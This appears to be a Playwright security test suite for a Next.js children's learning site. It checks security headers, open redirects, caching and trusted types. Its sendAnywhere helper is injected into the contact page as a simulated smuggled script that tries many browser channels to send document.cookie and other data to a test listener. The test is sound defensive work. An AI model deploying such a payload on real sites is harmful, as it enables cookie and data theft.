import { expect, type Page } from "@playwright/test";
import { listFiles } from "#tests/house/list-files.ts";
import { type Listener, startListener } from "#tests/setup/listener.ts";
import { test } from "#tests/setup/test.ts";

/** Every route of the product and an address of it; a page is answered with a document, a route.ts is not. */
const routes: Readonly<Record<string, string>> = {
  "app/api/[...rest]/route.ts": "/api/nothing/here",
  "app/api/account-export/route.ts": "/api/account-export",
  "app/api/health/route.ts": "/api/health",
  "app/api/menu/route.ts": "/api/menu",
  "app/api/own-place/[levelName]/route.ts": "/api/own-place/all",
  "app/api/profile-export/route.ts": "/api/profile-export",
  "app/api/pupil/route.ts": "/api/pupil",
  "app/api/search-index/route.ts": "/api/search-index",
  "app/auth/callback/route.ts": "/auth/callback",
  "app/auth/confirm/page.tsx": "/auth/confirm?type=signup&token=none",
  "app/class/[classId]/page.tsx": "/class/3",
  "app/contact/page.tsx": "/contact",
  "app/course-detail/[id]/[[...step]]/page.tsx": "/course-detail/111",
  "app/course/[type]/[classId]/page.tsx": "/course/challenge/2",
  "app/example-two-class-one/page.tsx": "/example-two-class-one",
  "app/game/[...path]/page.tsx": "/game/addition/10/play/1",
  "app/game2/[...path]/page.tsx": "/game2/addition-level-two/100",
  "app/grown-ups/page.tsx": "/grown-ups",
  "app/leaderboard/[levelName]/page.tsx": "/leaderboard/all",
  "app/page.tsx": "/",
  "app/privacy/page.tsx": "/privacy",
  "app/review/[classId]/page.tsx": "/review/1",
  "app/search/page.tsx": "/search?q=1000",
  "app/user/page.tsx": "/user",
};

const documentPolicy = {
  "default-src": "'none'",
  // Inline scripts: README, "Decisions". Nothing is evaluated but WebAssembly, and no attribute is run.
  "script-src": "'self' 'unsafe-inline' 'wasm-unsafe-eval'",
  "script-src-attr": "'none'",
  "style-src": "'self'",
  "style-src-attr": "'unsafe-inline'",
  "img-src": "'self' data: blob:",
  "font-src": "'self'",
  "connect-src": "'self'",
  "media-src": "'self'",
  "manifest-src": "'self'",
  "worker-src": "'self'",
  "frame-src": "'none'",
  "object-src": "'none'",
  "form-action": "'self'",
  "base-uri": "'none'",
  "frame-ancestors": "'none'",
  "require-trusted-types-for": "'script'",
  "trusted-types": "default nextjs",
};

const everywhere = {
  "x-content-type-options": "nosniff",
  "cross-origin-resource-policy": "same-origin",
  "referrer-policy": "same-origin",
};

function readPolicy(policy: string | undefined): Record<string, string> {
  const directives = (policy ?? "").split("; ").map((directive) => /^(\S+) (.*)$/.exec(directive)?.slice(1) ?? []);
  return Object.fromEntries(directives);
}

function expectDocumentHeaders(headers: Record<string, string>): void {
  expect(readPolicy(headers["content-security-policy"])).toEqual(documentPolicy);
  expect(headers).toMatchObject({
    ...everywhere,
    "x-frame-options": "DENY",
    "cross-origin-opener-policy": "same-origin",
    "permissions-policy": expect.stringContaining("camera=(), "),
  });
  // Plain http: a browser told to stay with https would never come back.
  expect(headers["strict-transport-security"]).toBeUndefined();
}

const isPage = ([file]: readonly [string, string]) => file.endsWith("/page.tsx");
const pages = Object.entries(routes).filter(isPage);
const answers = Object.entries(routes).filter((route) => !isPage(route));

test("every route of the product has its address here", () => {
  const files = listFiles(["app"], [".ts", ".tsx"]).filter((path) => /\/(?:page\.tsx|route\.ts)$/.test(path));
  expect(Object.keys(routes).toSorted()).toEqual(files.toSorted());
});

test("every document, also of an unknown address, and what is streamed for it, holds to the policy", async ({
  request,
}) => {
  const unknown = ["/nothing", "/nothing.php", "/class/9", "/pictures/nothing.svg", "/_next/nothing", "/api"];
  for (const path of [...pages.map(([, address]) => address), ...unknown]) {
    const answer = await request.get(path);
    expect(answer.headers()["content-type"], path).toMatch(/^text\/html/);
    expectDocumentHeaders(answer.headers());
  }
  for (const [, path] of pages) {
    const streamed = await request.get(path, { headers: { rsc: "1" } });
    expect(streamed.headers()["content-type"], path).toBe("text/x-component");
    expectDocumentHeaders(streamed.headers());
  }
});

test("what is no document may do nothing at all", async ({ request }) => {
  for (const [file, path] of answers) {
    const answer = await request.get(path, { maxRedirects: 0 });
    const policy = readPolicy(answer.headers()["content-security-policy"]);
    const strictest = { "default-src": "'none'", "frame-ancestors": "'none'" };
    expect(policy, path).toEqual(file.startsWith("app/api/") ? strictest : documentPolicy);
    expect(answer.headers()).toMatchObject(everywhere);
    expect(answer.headers()["content-type"] ?? "", path).not.toContain("html");
    // They are for asking; whatever changes something is an action, which knows where it is called from.
    for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
      expect((await request.fetch(path, { method })).status(), `${method} ${path}`).toBe(405);
    }
  }
});

test("no address leads to another site", async ({ request, baseURL }) => {
  const far = "https://example.org/";
  const asked = ["next", "redirect", "redirect_to", "redirectTo", "returnTo", "url"]
    .map((name) => `${name}=${far}`)
    .join("&");
  const addresses = [
    `/auth/callback?code=none&${asked}`,
    `/course?${asked}`,
    `/leaderboard?${asked}`,
    "//example.org/course",
    "/course/practice//example.org/",
  ];
  for (const address of addresses) {
    const { location = "/" } = (await request.get(`${baseURL}${address}`, { maxRedirects: 0 })).headers();
    expect(new URL(location, "http://here.test").origin, `${address} leads to ${location}`).toBe("http://here.test");
  }
});

test("files say what they are and how long they may be kept", async ({ page, request }) => {
  const asked: string[] = [];
  page.on("request", (sent) => asked.push(sent.url().slice(new URL(sent.url()).origin.length)));
  await page.goto("/");
  await expect(page.locator("canvas").first()).toBeVisible({ timeout: 30_000 });
  const kept = async (address: string) => {
    const { headers } = await request.get(address).then((answer) => ({ headers: answer.headers() }));
    expect(headers, address).toMatchObject(everywhere);
    return headers["cache-control"];
  };
  const forGood = asked.filter((address) => /^\/_next\/static\/|^\/rive\/[a-z_]+\.(?:wasm|riv)\?/.test(address));
  expect(forGood.filter((address) => /\.(?:js|css|woff2|wasm|riv)(?:\?|$)/.test(address)).length).toBeGreaterThan(9);
  for (const address of forGood) expect(await kept(address), address).toBe("public, max-age=31536000, immutable");
  const drawings = asked.filter((address) => /^\/(?:characters|pictures|avatars|animals|rings)\//.test(address));
  expect(drawings.length).toBeGreaterThan(0);
  for (const address of [...drawings, "/rive/icons/HOME.svg"]) {
    expect(await kept(address), address).toBe("public, max-age=86400, stale-while-revalidate=2592000");
  }
  // Under an address that does not say what it holds, the runtime is asked for anew each time.
  expect(await kept("/rive/rive.wasm")).toBe("public, max-age=0");
});

test.describe("visited one after the other", () => {
  // The browser's own note of an answer that is not 200.
  test.use({ expectedErrors: [/status of 404/] });

  test("no page and no unknown address breaks its own policy", async ({ page, faults }) => {
    await listenForViolations(page);
    page.on("console", (message) => {
      if (/polic/i.test(message.text())) faults.push(`said of a policy: ${message.text()}`);
    });
    for (const path of [...pages.map(([, address]) => address), "/nothing", "/pictures/nothing.svg"]) {
      await page.goto(path, { waitUntil: "networkidle" });
    }
  });
});

/** Not every violation is written to the console; with this each is. */
async function listenForViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sourceFile }) => {
      console.error(`policy violated: ${violatedDirective} ${blockedURI} ${sourceFile}`);
    });
  });
}

/** What a smuggled script would try to send what it found to `to`. Each way is tried, whatever came of the one before. */
function sendAnywhere(to: string): void {
  const add = (tag: string, fields: object) => document.body.append(Object.assign(document.createElement(tag), fields));
  const ways = [
    () => void fetch(`${to}/fetch`, { method: "POST", mode: "no-cors", body: document.cookie }).catch(() => undefined),
    () => navigator.sendBeacon(`${to}/beacon`, "found"),
    () => {
      const asked = new XMLHttpRequest();
      asked.open("GET", `${to}/xhr`);
      asked.send();
    },
    () => new WebSocket(`${to.replace("http", "ws")}/socket`),
    () => new EventSource(`${to}/events`),
    () => new Worker(`${to}/worker.js`),
    () => new Worker(URL.createObjectURL(new Blob([`fetch("${to}/blob-worker")`]))),
    () => add("img", { src: `${to}/img` }),
    () => add("video", { src: `${to}/video` }),
    () => add("iframe", { src: `${to}/iframe` }),
    () => add("object", { data: `${to}/object` }),
    () => add("embed", { src: `${to}/embed` }),
    () => add("link", { rel: "stylesheet", href: `${to}/style` }),
    () => add("link", { rel: "prefetch", href: `${to}/prefetch` }),
    () => add("link", { rel: "preload", as: "image", href: `${to}/preload` }),
    () => add("link", { rel: "icon", href: `${to}/icon` }),
    () => add("base", { href: `${to}/base/` }),
    () => add("script", { src: `${to}/script.js` }),
    () => add("script", { textContent: `fetch("${to}/text")` }),
    () => add("div", { innerHTML: `<img src="${to}/inner">` }),
    () => add("div", { style: `background: url("${to}/background")` }),
    () => new FontFace("far", `url("${to}/font")`).load().catch(() => undefined),
    () => void import(`${to}/module.js`).catch(() => undefined),
    () => new Function(`fetch("${to}/code")`)(),
    () => {
      const form = Object.assign(document.createElement("form"), { action: `${to}/form`, method: "post" });
      document.body.append(form);
      form.submit();
    },
  ];
  for (const way of ways) {
    try {
      way();
    } catch {
      // Refused at once: the next way.
    }
  }
}

test.describe("a script that was smuggled into a page", () => {
  // Each refusal is told on the console.
  test.use({ expectedErrors: [/./] });

  let far: Listener;
  test.beforeEach(async () => {
    far = await startListener();
  });
  test.afterEach(() => far.close());

  /** Puts the script into the contact page, whose headers `change` may change. */
  async function smuggleIn(page: Page, change: (headers: Record<string, string>) => Record<string, string>) {
    await page.route("/contact", async (route) => {
      const answer = await route.fetch();
      const attack = `<script>(${sendAnywhere.toString()})(${JSON.stringify(far.origin)}); window.ran = true</script>`;
      const body = (await answer.text()).replace("</body>", `${attack}</body>`);
      await route.fulfill({ response: answer, headers: change(answer.headers()), body });
    });
    // A page that is refused so much may never be told that it has loaded.
    await page.goto("/contact", { waitUntil: "commit" });
  }

  test("runs, and has nowhere to send anything", async ({ page, context, request }) => {
    // Else the browser itself would keep the page from another address of this machine.
    await context.grantPermissions(["local-network-access"]);
    await smuggleIn(page, (headers) => headers);
    await expect.poll(() => page.evaluate(() => "ran" in window)).toBe(true);
    // What was sent before has arrived by then.
    await page.evaluate(() => fetch("/api/health"));
    await request.get(`${far.origin}/control`);
    expect(far.asked).toEqual(["/control"]);
  });

  test("would have sent it in many ways without the policy", async ({ page, context }) => {
    await context.grantPermissions(["local-network-access"]);
    await smuggleIn(page, ({ "content-security-policy": _policy, ...others }) => others);
    const ways = ["/fetch", "/beacon", "/xhr", "/socket", "/events", "/img", "/style", "/font", "/script.js", "/form"];
    await expect.poll(() => ways.filter((way) => !far.asked.includes(way))).toEqual([]);
  });

  test("cannot make text into tags or code, nor take another's word for it", async ({ page }) => {
    await page.goto("/contact");
    const refused = await page.evaluate(() => {
      const types: unknown = Reflect.get(window, "trustedTypes");
      const createPolicy = (name: string) =>
        Reflect.apply(Reflect.get(Object(types), "createPolicy"), types, [name, {}]);
      const ways = {
        innerHTML: () => Object.assign(document.createElement("p"), { innerHTML: "<b>a</b>" }),
        insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", "<b>a</b>"),
        write: () => document.write("<b>a</b>"),
        parse: () => new DOMParser().parseFromString("<b>a</b>", "text/html"),
        srcdoc: () => Object.assign(document.createElement("iframe"), { srcdoc: "<b>a</b>" }),
        scriptText: () => Object.assign(document.createElement("script"), { textContent: "1" }),
        scriptFrom: () => Object.assign(document.createElement("script"), { src: "/pictures/duck.svg" }),
        worker: () => new Worker("/pictures/duck.svg"),
        anotherPolicy: () => createPolicy("another"),
        samePolicyAgain: () => createPolicy("default"),
      };
      return Object.entries(ways).flatMap(([name, way]) => {
        try {
          way();
          return [`${name} was let through`];
        } catch {
          return [];
        }
      });
    });
    expect(refused).toEqual([]);
  });
});
